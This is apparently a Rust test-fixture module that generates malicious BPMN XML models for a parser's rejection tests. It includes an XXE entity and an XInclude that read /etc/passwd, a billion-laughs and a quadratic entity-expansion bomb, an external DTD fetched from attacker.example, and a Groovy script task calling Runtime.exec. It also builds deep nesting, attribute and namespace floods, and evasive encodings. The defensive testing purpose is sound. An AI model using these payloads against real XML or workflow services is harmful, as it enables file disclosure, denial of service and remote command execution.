//! The bad models, made in code: some are too large to be kept as files.

/// Numbers of the cases that are models; case 14 (a compressed upload) never reaches the reader.
pub const MODELS: [u8; 14] = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 15];

/// One level deeper than allowed.
pub const DEEP: usize = 257;

const XML: &str = "<?xml version='1.0' encoding='UTF-8'?>\n";
const BPMN: &str = "xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL'";

/// A model whose process holds `body`, which starts in line 3.
pub fn process(body: &str) -> String {
    format!(
        "{XML}<definitions {BPMN}><process id='loan' isExecutable='true'>\n\
         {body}</process></definitions>\n"
    )
}

/// One text for each number, joined.
pub fn each(numbers: impl Iterator<Item = usize>, text: impl Fn(usize) -> String) -> String {
    numbers.map(text).collect::<Vec<_>>().concat()
}

/// The model of case `number`.
pub fn case(number: u8) -> Vec<u8> {
    match number {
        1 => doctype("[<!ENTITY secret SYSTEM 'file:///etc/passwd'>]", "&secret;"),
        2 => doctype(&format!("[{}]", laughs()), "&l9;"),
        3 => {
            let entity = format!("[<!ENTITY a '{}'>]", "a".repeat(100_000));
            doctype(&entity, &"&a;".repeat(100_000))
        }
        4 => doctype("SYSTEM 'http://attacker.example/model.dtd'", ""),
        5 => process(
            "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>",
        )
        .into_bytes(),
        6 => nested(DEEP),
        7 => attributes(80_000),
        8 => namespaces(300),
        9 => encodings().swap_remove(0),
        10 => process("<startEvent id='a' name=\0'b'/>").into_bytes(),
        11 => process(
            "<startEvent id='start'/>\n<endEvent id='end'/>\n<userTask name='b' id='end'/>\n",
        )
        .into_bytes(),
        12 => process(
            "<startEvent id='start'/>\n\
             <sequenceFlow id='flow' sourceRef='start' targetRef='nowhere'/>\n",
        )
        .into_bytes(),
        13 => too_large(),
        15 => process(
            "<startEvent id='start'/>\n\
             <scriptTask id='calculate' name='Calculate' scriptFormat='groovy'>\
             <script>Runtime.getRuntime().exec('id')</script></scriptTask>\n\
             <sequenceFlow id='flow' sourceRef='start' targetRef='calculate'/>\n",
        )
        .into_bytes(),
        other => panic!("case {other} is no model"),
    }
}

fn doctype(declaration: &str, text: &str) -> Vec<u8> {
    format!(
        "{XML}<!DOCTYPE definitions {declaration}>\n\
         <definitions {BPMN}><process id='loan'><documentation>{text}</documentation>\
         </process></definitions>"
    )
    .into_bytes()
}

fn laughs() -> String {
    let level = |level: usize| {
        let ten = format!("&l{};", level - 1).repeat(10);
        format!("<!ENTITY l{level} '{ten}'>")
    };
    format!("<!ENTITY l0 'ha'>{}", each(1..10, level))
}

/// Elements nested so that the innermost stands at `depth`, with ids that tell their depth.
pub fn nested(depth: usize) -> Vec<u8> {
    let inner = depth - 2;
    let open: String = each(3..=depth, |level| format!("<subProcess id='d{level}'>"));
    process(&format!("{open}{}", "</subProcess>".repeat(inner))).into_bytes()
}

/// A start event with `number` attributes besides its id.
pub fn attributes(number: usize) -> Vec<u8> {
    let all: String = each(0..number, |index| format!(" a{index}='1'"));
    process(&format!("<startEvent id='start'{all}/><scriptTask id='s'/>")).into_bytes()
}

/// A model that declares `number` namespaces on its outermost element besides that of BPMN.
pub fn namespaces(number: usize) -> Vec<u8> {
    let all: String = each(0..number, |index| format!(" xmlns:n{index}='urn:n{index}'"));
    process("<startEvent id='start'/>")
        .replace("<definitions ", &format!("<definitions{all} "))
        .into_bytes()
}

/// A model that declares `number` namespaces on elements side by side.
pub fn spread_namespaces(number: usize) -> Vec<u8> {
    let all: String = each(0..number, |index| {
        format!("<userTask id='t{index}' xmlns:n{index}='urn:n{index}'/>\n")
    });
    process(&all).into_bytes()
}

/// A model in encodings that are not read, the plain UTF-16 first.
pub fn encodings() -> Vec<Vec<u8>> {
    let model = process("<startEvent id='start'/>");
    let big = |text: &str| text.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>();
    let little = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let mut latin = process("<startEvent id='start' name='caf\u{1}'/>").into_bytes();
    latin.iter_mut().filter(|byte| **byte == 1).for_each(|byte| *byte = 0xE9);
    let overlong = process("<startEvent id='start' name='XX'/>").into_bytes();
    let at = overlong.windows(2).position(|pair| pair == b"XX").expect("it is there");
    let mut overlong = overlong;
    overlong[at..at + 2].copy_from_slice(&[0xC0, 0xBC]);
    vec![
        little(&format!("\u{feff}{model}")),
        big(&format!("\u{feff}{model}")),
        little(&model),
        big(&model),
        model.replace("UTF-8", "UTF-7").into_bytes(),
        model.replace("UTF-8", "UTF-16").into_bytes(),
        model.replace("UTF-8", "ISO-8859-1").replace("id='start'", "id='é'").into_bytes(),
        model.replace('<', "+ADw-").replace('>', "+AD4-").into_bytes(),
        latin,
        overlong,
    ]
}

fn too_large() -> Vec<u8> {
    let mut model = process("<startEvent id='start'/>").into_bytes();
    model.resize(10_000_001, b' ');
    model
}
